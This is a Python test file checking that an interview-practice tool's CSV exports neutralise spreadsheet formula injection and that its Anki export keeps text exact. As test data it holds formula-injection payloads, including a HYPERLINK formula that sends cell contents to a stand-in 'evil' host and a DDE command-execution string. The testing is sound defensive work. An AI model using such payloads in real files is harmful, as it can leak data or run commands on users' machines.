"""Spreadsheet-safe CSV (docs/exports.md), through the CLI: `bank export --format
csv` and `report --format csv` neutralise text a spreadsheet would run as a
formula, keep everything else as written, and write numbers as numbers; the
Anki export keeps its text exact and one note per record."""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from interview.bank.loader import load_bank
from interview.bank.spreadsheet import (
    csv_lines,
    neutralise,
    original,
    safe_cell,
    spreadsheet_csv,
)
from interview.cli import cli
from interview.practice.domain import (
    Answer,
    Grade,
    Mode,
    Outcome,
    PlannedQuestion,
    SessionFilters,
    ShownQuestion,
)
from tests.bankfiles import BankFactory, question, question_file, write_files
from tests.store.builders import opened

# What a spreadsheet runs as a formula (OWASP), and the mark that keeps text text.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0"]
HARMLESS = ["Plain title", "a=b", "1+1", "x - y", "mail@example.org", "50%", "#hash",
            "(=1)", "\"=1\"", "é=ü"]
T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(cli, [str(arg) for arg in args])


@pytest.fixture(autouse=True)
def in_tmp_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing these tests write may land in the checkout."""
    monkeypatch.chdir(tmp_path)


def undo(cell: str) -> str:
    """What docs/exports.md tells a script to do: drop one leading quote."""
    return cell[1:] if cell.startswith("'") else cell


def records(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def typed_records(text: str) -> list[list[Any]]:
    """The rows after the header as a spreadsheet types them: a quoted cell
    is text (str), a bare one a number (float)."""
    body = text.split("\n", 1)[1]
    return list(csv.reader(io.StringIO(body, newline=""), quoting=csv.QUOTE_NONNUMERIC))


def assert_nothing_runs(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS), (value, row)


# -- bank export ----------------------------------------------------------------------

def _every_field(qid: str, text: str) -> dict[str, Any]:
    return question(qid, title=text, prompt=text, hints=[text], follow_ups=[text],
                    outline=text, tags=[text],
                    rubric={"signals": [text], "red_flags": [text],
                            "by_level": {"senior": text}})


TEXT_COLUMNS = ("title", "prompt", "hints", "follow_ups", "signals", "red_flags",
                "bar_senior", "outline", "tags")


@pytest.fixture
def hostile_bank(make_bank: BankFactory) -> Path:
    texts = [*FORMULAS, *HARMLESS, "'already quoted"]
    return make_bank({"coding-craft.yaml": question_file(
        *(_every_field(f"q-{i:02d}", text) for i, text in enumerate(texts)))})


def export_csv(bank: Path, tmp_path: Path) -> str:
    out = tmp_path / "bank.csv"
    result = run("--bank", bank, "bank", "export", "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    return out.read_bytes().decode("utf-8")  # exact: no newline translation


def by_id(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.mark.parametrize("position", range(len(FORMULAS)))
def test_bank_export_neutralises_every_formula(hostile_bank: Path, tmp_path: Path,
                                               position: int) -> None:
    row = by_id(export_csv(hostile_bank, tmp_path))[f"q-{position:02d}"]
    formula = FORMULAS[position]
    for column in TEXT_COLUMNS:
        assert row[column] == "'" + formula, column  # one quote, then the exact text
        assert undo(row[column]) == formula


@pytest.mark.parametrize("position", range(len(HARMLESS)))
def test_bank_export_leaves_harmless_text_as_written(hostile_bank: Path, tmp_path: Path,
                                                     position: int) -> None:
    row = by_id(export_csv(hostile_bank, tmp_path))[f"q-{position + len(FORMULAS):02d}"]
    for column in TEXT_COLUMNS:
        assert row[column] == HARMLESS[position], column


def test_text_starting_with_a_quote_is_marked_too_so_undoing_is_exact(
        hostile_bank: Path, tmp_path: Path) -> None:
    row = by_id(export_csv(hostile_bank, tmp_path))[f"q-{len(FORMULAS) + len(HARMLESS):02d}"]
    assert row["title"] == "''already quoted"
    assert undo(row["title"]) == "'already quoted"


def test_bank_export_on_standard_output_is_as_safe(hostile_bank: Path, tmp_path: Path) -> None:
    result = run("--bank", hostile_bank, "bank", "export", "--format", "csv")  # no --out
    assert result.exit_code == 0, result.output
    assert result.stdout == export_csv(hostile_bank, tmp_path)
    assert_nothing_runs(records(result.stdout))


def test_a_leading_tab_or_carriage_return_never_reaches_the_sheet(
        make_bank: BankFactory, tmp_path: Path) -> None:
    # The loader trims both from bank text; what is left must still be marked.
    bank = make_bank({"coding-craft.yaml": question_file(
        _every_field("q-tab", "\t=1+1"), _every_field("q-cr", "\r\n=2+2"))})
    text = export_csv(bank, tmp_path)
    rows = by_id(text)
    assert rows["q-tab"]["title"] == "'=1+1" and rows["q-cr"]["title"] == "'=2+2"
    assert_nothing_runs(records(text))


def test_bank_export_numbers_are_numbers_and_text_is_quoted(hostile_bank: Path,
                                                            tmp_path: Path) -> None:
    text = export_csv(hostile_bank, tmp_path)
    header = records(text)[0]
    for row in typed_records(text):
        typed = dict(zip(header, row, strict=True))
        assert typed["minutes"] == 20.0  # bare: a spreadsheet reads a number
        assert all(isinstance(typed[c], str) for c in header if c != "minutes")
    assert text.startswith("id,title,kind,")  # the header stays plain


# -- report ---------------------------------------------------------------------------

def seed(url: str, *, title: str, text: str, role: str = "systems-developer",
         level: str = "senior", grade: Grade | None = Grade.YES, seconds: float = 312.25,
         competency: str = "debugging-diagnostics") -> None:
    """alice: one session, one answer to question `q-csv` shown with `title`."""
    shown = ShownQuestion("q-csv", "q-csv-1", title,
                          {"id": "q-csv", "title": title,
                           "rubric": {"signals": ["one", "two", "three"]}})
    with opened(url) as store:
        session = store.start_session(
            "alice", Mode.PRACTICE, SessionFilters(role=role, level=level),
            [PlannedQuestion("q-csv", competency, 600, content_hash="q-csv-1")], [shown], T0)
        answered = T0 + timedelta(minutes=6)
        store.record_answer(Answer(
            session_id=session.id, position=0, question_id="q-csv", question_hash="q-csv-1",
            competency=competency, started_at=answered - timedelta(seconds=seconds),
            answered_at=answered, seconds_used=seconds, time_limit_seconds=600, text=text,
            outcome=Outcome.GRADED, grade=grade, signals_hit=(0, 2) if grade else (),
            hints_used=2), None, finished_at=answered)


def report_csv(bank: Path, url: str, out: Path | str) -> Result:
    return run("--bank", bank, "--database", url, "report", "--profile", "alice",
               "--format", "csv", "--out", out)


def report_rows(bank: Path, url: str, tmp_path: Path) -> tuple[str, list[dict[str, str]]]:
    out = tmp_path / "report.csv"
    result = report_csv(bank, url, out)
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8")  # exact: no newline translation
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def small_bank(make_bank: BankFactory) -> Path:
    return make_bank({"coding-craft.yaml": question_file(question("q-other"))})


@pytest.mark.parametrize("start", DANGEROUS)
def test_report_neutralises_every_dangerous_start(small_bank: Path, database_url: str,
                                                  tmp_path: Path, start: str) -> None:
    hostile = f"{start}HYPERLINK(\"http://evil/?\"&A1)"
    seed(database_url, title=hostile, text=hostile + "\nsecond line")
    _text, rows = report_rows(small_bank, database_url, tmp_path)
    (row,) = rows
    assert row["title"] == "'" + hostile and undo(row["title"]) == hostile
    assert row["answer"] == f"'{hostile}\nsecond line"
    assert_nothing_runs([list(row.values())])


def test_report_text_from_the_session_is_neutralised(small_bank: Path, database_url: str,
                                                     tmp_path: Path) -> None:
    seed(database_url, title="Harmless =title", text="-", role="=role", level="@level",
         competency="+competency")
    _text, (row,) = report_rows(small_bank, database_url, tmp_path)
    assert (row["role"], row["level"], row["competency"]) == ("'=role", "'@level",
                                                              "'+competency")
    assert row["title"] == "Harmless =title" and row["answer"] == "'-"


def test_report_numbers_are_numbers(small_bank: Path, database_url: str,
                                    tmp_path: Path) -> None:
    seed(database_url, title="=1", text="an answer")
    text, (row,) = report_rows(small_bank, database_url, tmp_path)
    assert (row["grade"], row["seconds_used"], row["time_limit_seconds"]) == ("3", "312.2",
                                                                               "600")
    assert (row["hints_used"], row["signals_hit"], row["signals_total"]) == ("2", "2", "3")
    (typed,) = typed_records(text)
    numbers = dict(zip(row, typed, strict=True))
    for column in ("session_id", "grade", "seconds_used", "time_limit_seconds", "hints_used",
                   "signals_hit", "signals_total"):
        assert isinstance(numbers[column], float), column  # written bare
    for column in ("date", "mode", "role", "level", "question_id", "title", "competency",
                   "outcome", "answer"):
        assert isinstance(numbers[column], str), column  # written quoted


def test_report_without_a_grade_has_an_empty_cell(small_bank: Path, database_url: str,
                                                  tmp_path: Path) -> None:
    seed(database_url, title="t", text="", grade=None)
    _text, (row,) = report_rows(small_bank, database_url, tmp_path)
    assert row["grade"] == "" and row["answer"] == ""


def test_report_on_standard_output_has_the_same_rows(small_bank: Path, database_url: str,
                                                     tmp_path: Path) -> None:
    seed(database_url, title="=1+1", text="@me")
    text, _rows = report_rows(small_bank, database_url, tmp_path)
    shown = report_csv(small_bank, database_url, "-")
    assert shown.exit_code == 0, shown.output
    assert shown.stdout == text  # no carriage return to show as a symbol at each line end
    assert_nothing_runs(records(shown.stdout))


# -- any text -------------------------------------------------------------------------

@given(st.text(), st.text())
def test_any_text_is_safe_and_comes_back(first: str, second: str) -> None:
    written = spreadsheet_csv(("a", "b", "n"), [[first, second, -0.5], [second, None, 7]])
    rows = records(written)
    assert rows[0] == ["a", "b", "n"] and len(rows) == 3  # no text splits a record
    assert_nothing_runs([row[:2] for row in rows])  # the text cells
    assert [undo(c) for c in rows[1]] == [first, second, "-0.5"]
    assert [undo(c) for c in rows[2]] == [second, "", "7"]
    assert original(neutralise(first)) == first
    assert typed_records(written) == [[safe_cell(first), safe_cell(second), -0.5],
                                      [safe_cell(second), "", 7.0]]


def test_a_negative_number_stays_a_number() -> None:
    written = spreadsheet_csv(("trend",), [[-0.5], ["-0.5"]])
    assert written == 'trend\n-0.5\n"\'-0.5"\n'  # the number bare, the text marked


def test_only_text_and_numbers_make_cells() -> None:
    with pytest.raises(TypeError, match="bool"):
        safe_cell(True)
    with pytest.raises(TypeError, match="datetime"):
        safe_cell(T0)  # type: ignore[arg-type]


# Text the store keeps exactly (no NUL for PostgreSQL's sake, no lone surrogates).
STORED_TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"),
                      min_size=1, max_size=30)


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=STORED_TEXT, answer=STORED_TEXT)
def test_any_report_text_is_safe_and_comes_back(small_bank: Path, title: str,
                                                answer: str) -> None:
    with tempfile.TemporaryDirectory() as scratch:
        url = f"sqlite:///{Path(scratch) / 'interview.db'}"
        seed(url, title=title, text=answer)
        text, (row,) = report_rows(small_bank, url, Path(scratch))
    assert_nothing_runs(records(text))
    assert (undo(row["title"]), undo(row["answer"])) == (title, answer)


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=30))
def test_any_bank_text_is_safe_and_comes_back(text: str) -> None:
    with tempfile.TemporaryDirectory() as scratch:
        bank = write_files(Path(scratch) / "bank", {"coding-craft.yaml": question_file(
            _every_field("q-any", text), question("q-calm"))})
        loaded = load_bank(bank, use_cache=False).questions.get("q-any")
        exported = export_csv(bank, Path(scratch))
    assert_nothing_runs(records(exported))
    if loaded is not None:  # the bank may refuse it (blank once trimmed)
        row = by_id(exported)["q-any"]
        assert undo(row["title"]) == loaded.title and undo(row["prompt"]) == loaded.prompt


# -- Anki -----------------------------------------------------------------------------

ANKI_HEADER = ["#separator:tab", "#html:false", "#columns:Front\tBack\tTags", "#tags column:3"]


def anki_notes(text: str) -> list[list[str]]:
    """The notes as Anki reads them: after the header lines, tab-separated
    records, where a carriage return or newline outside quotes ends a record."""
    lines = text.split("\n", len(ANKI_HEADER))
    assert lines[:len(ANKI_HEADER)] == ANKI_HEADER
    return list(csv.reader(io.StringIO(lines[-1], newline=""), delimiter="\t"))


def test_anki_fields_keep_their_text_and_one_note_per_record(make_bank: BankFactory,
                                                             tmp_path: Path) -> None:
    title = "#not a comment\t=1+1 \"quoted\" a\rb"
    prompt = "Tabs\tand\nnewlines\r\nand a lone\rreturn"
    bank = make_bank({"coding-craft.yaml": question_file(
        question("a-hostile", title=title, prompt=prompt,
                 rubric={"signals": ["-1 =SUM(A1)\tx\ry"], "red_flags": ["@x"]}),
        question("b-calm"))})
    out = tmp_path / "cards.txt"
    result = run("--bank", bank, "bank", "export", "--format", "anki", "--out", out)
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8")  # exact: no newline translation
    notes = anki_notes(text)
    assert len(notes) == 2 and all(len(note) == 3 for note in notes)
    hostile, calm = notes
    assert hostile[0] == f"{title}\n\n{prompt}"  # exact: no formula mark in Anki
    assert hostile[1].startswith("A strong answer:\n- -1 =SUM(A1)\tx\ry\n\nRed flags:\n- @x")
    assert calm[0] == "Title of b-calm\n\nExplain b-calm."
    # Every front holds a newline, so it is quoted: a `#` title is never a comment line.
    assert text.split("\n", len(ANKI_HEADER))[-1].startswith('"#not a comment')


@settings(max_examples=50, deadline=None)
@given(st.lists(st.text(), min_size=3, max_size=3))
def test_anki_records_hold_any_text(fields: list[str]) -> None:
    # The writer the Anki export uses, on text the bank loader would have trimmed.
    written = "".join(csv_lines([fields, ["next", "note", "tags"]], delimiter="\t"))
    assert list(csv.reader(io.StringIO(written, newline=""), delimiter="\t")) == [
        fields, ["next", "note", "tags"]]
